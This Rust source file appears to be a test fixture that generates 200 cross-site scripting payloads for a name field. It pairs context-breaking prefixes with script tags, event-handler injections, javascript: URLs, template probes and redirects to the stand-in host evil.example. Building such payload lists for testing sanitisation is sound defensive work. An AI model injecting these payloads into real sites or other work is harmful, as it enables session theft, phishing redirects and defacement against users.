//! What people call themselves who want scripts to run.

/// Where the text may stand: it is closed first.
const OPENINGS: [&str; 8] =
    ["", "\">", "'>", "</title>", "</textarea>", "--></script>", "</option></select>", "]]>"];

/// What then is to happen.
const ATTACKS: [&str; 25] = [
    "<script>xss()</script>",
    "<ScRiPt>xss(2)</sCrIpT>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()>",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<script>xss()</script>'>",
    "<a href=javascript:xss()>x</a>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()>",
    "<math href=javascript:xss()>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><button>x",
    "<object data=//evil.example></object>",
    "\" autofocus onfocus=xss() x=\"",
    "' autofocus onfocus=xss() x='",
    "` onfocus=xss() autofocus `",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "javascript:xss()//&#x3c;img src=x&#x3e;",
];

/// Two hundred of them, all different and no longer than a name may be.
pub fn payloads() -> Vec<String> {
    let all =
        OPENINGS.iter().flat_map(|opening| ATTACKS.map(|attack| format!("{opening}{attack}")));
    all.collect()
}

/// A name that is none.
pub fn harmless() -> &'static str {
    "Harmless"
}
